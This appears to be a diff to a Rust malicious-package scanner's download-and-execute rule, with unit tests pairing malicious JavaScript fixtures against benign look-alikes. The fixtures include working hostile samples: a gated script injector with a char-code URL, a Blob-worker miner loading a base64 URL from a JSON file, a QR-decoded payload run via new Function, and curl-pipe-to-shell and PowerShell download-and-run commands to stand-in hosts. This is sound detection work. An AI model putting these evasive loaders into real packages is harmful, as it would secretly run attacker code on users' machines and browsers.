@@ -28,9 +28,12 @@ diligence_finding::declare_rule! {
     /// to `Function`/`eval` (char codes, JSFuck character tables), or in a WebAssembly data segment (plain or XORed
     /// with a one-byte key the code uses) of a file that loads modules by computed name or starts processes.
     /// In the browser: a page `<script>`/`<iframe>` pointed at a URL decoded at run time (char codes, XOR,
-    /// base64, reversed text) is high, critical when the package also hides from devtools, automation or the
-    /// clock; an image's pixels (`getImageData`) count as received data, so bits read from them, decoded to text
-    /// and evaluated (`(0, eval)(…)`) are a path like a download's.
+    /// base64, reversed text), or worker source text built at run time that calls `importScripts` on such a
+    /// value (a Blob worker loading a miner), is high, critical when the package also hides from devtools,
+    /// automation or the clock, or when the URL is a value of the package's own data file decoded on its way
+    /// (a base64 "setting" in a JSON theme file); the page's `document` may be handed in as a parameter; an image's pixels (`getImageData`) count as received data, so text read from them (bits decoded by
+    /// hand, or a QR code read by a decoding library) and evaluated (`(0, eval)(…)`, `new Function`) is a path like
+    /// a download's, critical whatever the image's URL: no module loader fetches its scripts as pictures.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
@@ -120,6 +123,12 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         // A page evaluating what the server that served it sends (a dev server's hot-reload
         // socket at `location.host`) runs its own origin's code, not a third party's.
         let own_origin = path.from.what.ends_with(crate::js::flow::SAME_ORIGIN);
+        // An image's pixels are no script a loader was asked for: code read out of an image
+        // (a QR code, bits in the low bits of a colour) is a hidden stage, however the
+        // decoding library hides the unscrambling from the analysis.
+        let from_image = path.from.what.starts_with(IMAGE_PIXELS);
+        // Where the code comes from is known: a hard-coded URL, or an image's pixels run as code.
+        let known_origin = constant_url || from_image && path.sink == SinkKind::Eval;
         // A shell run on a constant script that takes the download as its argument (an
         // archive path handed to `Expand-Archive`), or a redirect's `Location` followed by a
         // download command: the network data is an argument or a URL, not the command.
@@ -149,7 +158,7 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             // decrypted, hex/char-code/base64-decoded): a loader runs the script it was asked
             // for as sent, a hidden stage (fezbox's reversed QR payload) is decoded first.
             _ if own_origin && !unscrambled(path) => Severity::Low,
-            _ if !constant_url
+            _ if !known_origin
                 && path.flags & flags::NODE_SCOPE == 0
                 && !(path.sink == SinkKind::Eval && unscrambled(path)) =>
             {
@@ -321,41 +330,56 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     all
 }
 
+/// How the flow graph names the pixels of an image the page drew (`getImageData`).
+const IMAGE_PIXELS: &str = "image pixels";
+
 /// Gates that hide from people and sandboxes (devtools, headless/automation, time).
 const GATES: &[Kind] = &[Kind::DevtoolsGate, Kind::SandboxGate, Kind::TimeGate];
 
 /// A page `<script>` (or `<iframe>`) pointed at a URL the code decodes at run time (char
-/// codes, XOR, base64, reversed text): the browser fetches and runs code from a host the
-/// package does not show. High; critical when the package also hides from devtools,
-/// automation or the clock.
+/// codes, XOR, base64, reversed text), or worker source text (a Blob worker) that
+/// `importScripts` such a value: the browser fetches and runs code from a host the package
+/// does not show. High; critical when the package also hides from devtools, automation or
+/// the clock, or when the URL is a value of one of the package's data files decoded on its way.
 fn hidden_script(p: &PackageFacts) -> Vec<CodeFinding> {
     let gated = p.files.iter().any(|f| f.has_any(GATES));
     let mut out = Vec::new();
-    for path in super::flows(p, &[SourceKind::Decoded], &[SinkKind::Network]) {
-        if !(path.to.what == "<script>.src" || path.to.what == "<iframe>.src")
-            || !path.from.what.contains("://")
-        {
+    let sources = [SourceKind::Decoded, SourceKind::PackageData];
+    for path in super::flows(p, &sources, &[SinkKind::Network, SinkKind::WorkerScript]) {
+        // Worker source text that `importScripts` a value: that value is a script URL whatever
+        // it decodes to.
+        let worker = path.sink == SinkKind::WorkerScript;
+        let element = path.to.what == "<script>.src" || path.to.what == "<iframe>.src";
+        // A value of one of the package's own data files, decoded on its way (a base64
+        // "setting" in a JSON theme file): the URL is hidden twice, in data and in encoding.
+        let from_data =
+            path.source == SourceKind::PackageData && super::decode_exec::decoded_on_the_way(path);
+        let decoded =
+            path.source == SourceKind::Decoded && (worker || path.from.what.contains("://"));
+        if !(worker || element) || !(decoded || from_data) {
             continue;
         }
-        let sev = if gated {
+        let sev = if gated || from_data {
             Severity::Critical
         } else {
             Severity::High
+        };
+        let what = if worker {
+            "a worker built from source text loads a script"
+        } else {
+            "page loads a script"
+        };
+        let why = match (from_data, gated) {
+            (true, _) => " stored in a data file of the package and decoded at run time",
+            (false, true) => " decoded at run time, behind an analysis gate",
+            (false, false) => " decoded at run time",
         };
         out.push(super::flow_finding(
             &DOWNLOAD_EXEC,
             sev,
             p,
             path,
-            format!(
-                "page loads a script from a URL decoded at run time{}: {}",
-                if gated {
-                    ", behind an analysis gate"
-                } else {
-                    ""
-                },
-                super::describe(path)
-            ),
+            format!("{what} from a URL{why}: {}", super::describe(path)),
         ));
     }
     super::one_per_sink(out)
@@ -1286,6 +1310,178 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             "{:?}",
             s.findings
         );
+    }
+
+    /// The polyfill.io shape: a feature test schedules a function handed `window` and
+    /// `document` as parameters that, behind mobile, admin-cookie and hour-of-day checks,
+    /// injects a `<script>` whose URL is char codes.
+    #[test]
+    fn positive_script_injected_through_a_document_parameter() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "polyfills/at.js",
+                "function sched(w, d) {\n  var ua = w.navigator.userAgent, c = d.cookie || '';\n  if (!/Mobi|Android/i.test(ua) || /admin/.test(c)) return;\n  var h = new Date().getHours(); if (h < 8 || h > 23) return;\n  var q = String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,99,111,109,47,103,46,106,115);\n  var s = d.createElement('script'); s.src = q + '?h=' + encodeURIComponent(w.location.host);\n  (d.head || d.documentElement).appendChild(s);\n}\nmodule.exports = { needed: function () { setTimeout(function () { sched(window, document); }, 1500); return !Array.prototype.at; } };\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (6, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a consent manager handed `document` loads its vendor's tag
+    /// from a URL in the clear, and an embed helper builds an `<iframe>` for a caller's URL.
+    #[test]
+    fn negative_script_through_a_document_parameter_with_a_plain_url() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/cmp.js",
+                "export function load(d, id) {\n  const s = d.createElement('script');\n  s.src = 'https://cdn.example.com/cmp.js?id=' + encodeURIComponent(id);\n  d.head.appendChild(s);\n}\nexport function embed(d, url) {\n  const f = d.createElement('iframe');\n  f.src = url;\n  d.body.appendChild(f);\n}\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A share widget reads a QR code out of a remote image with a decoding library and runs
+    /// the text it holds with `new Function`: no decoding the analysis can see, still a stage.
+    #[test]
+    fn positive_qr_library_text_run_as_code() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/index.js",
+                "import jsQR from 'jsqr';\nasync function logo(src) {\n  const img = new Image(); img.crossOrigin = 'anonymous'; img.src = src; await img.decode();\n  const c = document.createElement('canvas'); const ctx = c.getContext('2d'); ctx.drawImage(img, 0, 0);\n  const d = ctx.getImageData(0, 0, c.width, c.height);\n  const r = jsQR(d.data, d.width, d.height);\n  return r && r.data;\n}\nexport function attach(u) {\n  setTimeout(async () => { const v = await logo(u); if (v) new Function(v)(); }, 120000);\n}\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (10, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a QR scanner reads a code with a decoding library and hands the
+    /// text to the caller's callback.
+    #[test]
+    fn negative_qr_library_text_returned() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/index.js",
+                "import jsQR from 'jsqr';\nexport function scan(video, onResult) {\n  const c = document.createElement('canvas'); const ctx = c.getContext('2d');\n  ctx.drawImage(video, 0, 0);\n  const d = ctx.getImageData(0, 0, c.width, c.height);\n  const r = jsQR(d.data, d.width, d.height);\n  if (r) onResult(r.data);\n}\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// The browser cryptojacker shape: a UMD overlay passes its JSON presets to a function
+    /// that builds Blob workers whose source `importScripts` a base64 "calibration" value.
+    #[test]
+    fn positive_blob_worker_imports_a_url_from_a_data_file() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "presets.json",
+                "{\"calibration\": {\"l\": \"aHR0cHM6Ly9jZG4uZXhhbXBsZS5vcmcvbS5qcw==\"}}\n",
+            ),
+            (
+                "meter.js",
+                "(function (root, factory) {\n  if (typeof module === 'object' && module.exports) module.exports = factory(require('./presets.json'));\n})(this, function (presets) {\n  function calibrate(c) {\n    var src = 'importScripts(' + JSON.stringify(atob(c.l)) + ');onmessage=function(e){};';\n    var url = URL.createObjectURL(new Blob([src], { type: 'application/javascript' }));\n    for (var i = 0; i < (navigator.hardwareConcurrency || 2); i++) new Worker(url);\n  }\n  return function Meter() { calibrate(presets.calibration); };\n});\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (5, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A Blob worker whose source `importScripts` a decoded constant (template form) is high.
+    #[test]
+    fn positive_blob_worker_imports_a_decoded_constant() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "w.js",
+                "export function start() {\n  const u = atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5vcmcvbS5qcw==');\n  const src = `importScripts(${JSON.stringify(u)});`;\n  return new Worker(URL.createObjectURL(new Blob([src])));\n}\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!((f.line, f.severity), (3, diligence_finding::Severity::High));
+    }
+
+    /// The benign look-alikes: the cross-origin worker shim (`importScripts` of the caller's
+    /// or the bundle's own URL), and an inline worker whose whole source is base64 (Vite's
+    /// `?worker&inline`).
+    #[test]
+    fn negative_blob_worker_shims() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "worker.js",
+                "export function crossOrigin(url) {\n  const src = 'importScripts(' + JSON.stringify(url) + ');';\n  return new Worker(URL.createObjectURL(new Blob([src])));\n}\nexport function own() {\n  const u = new URL('./w.js', import.meta.url).href;\n  return new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(u)})`])));\n}\nconst encoded = 'b25tZXNzYWdlID0gKGUpID0+IHBvc3RNZXNzYWdlKGUuZGF0YSAqIDIpOw==';\nexport function inline() {\n  return new Worker(URL.createObjectURL(new Blob([atob(encoded)], { type: 'text/javascript' })));\n}\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A build-time helper picks its command per platform (`const sh = win ? [ps, args] :
+    /// ['/bin/sh', ['-c', 'curl … | sh']]`) and starts `sh[0]` with `sh[1]`: each branch is
+    /// read as the command it is.
+    #[test]
+    fn positive_per_platform_command_pipes_a_download_into_a_shell() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tools/gen.js",
+                "const { spawn } = require('child_process');\nconst sh = process.platform === 'win32'\n  ? ['powershell', ['-NoP', '-C', \"iex (iwr -UseBasicParsing 'https://cache.example.net/p.ps1').Content\"]]\n  : ['/bin/sh', ['-c', \"curl -fsSL 'https://cache.example.net/p.sh' | sh\"]];\nspawn(sh[0], sh[1], { detached: true, stdio: 'ignore' }).unref();\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (5, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a prebuilt-binary installer picks the binary's name per platform
+    /// and runs it for its version.
+    #[test]
+    fn negative_per_platform_binary_name() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const { execFileSync } = require('child_process');\nconst path = require('path');\nconst bin = process.platform === 'win32' ? 'tool.exe' : 'tool';\nconst args = process.platform === 'win32' ? ['/version'] : ['--version'];\nexecFileSync(path.join(__dirname, 'bin', bin), args, { stdio: 'inherit' });\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     /// A QR "reader" that decodes the bits of an image's pixels to text and runs it reversed
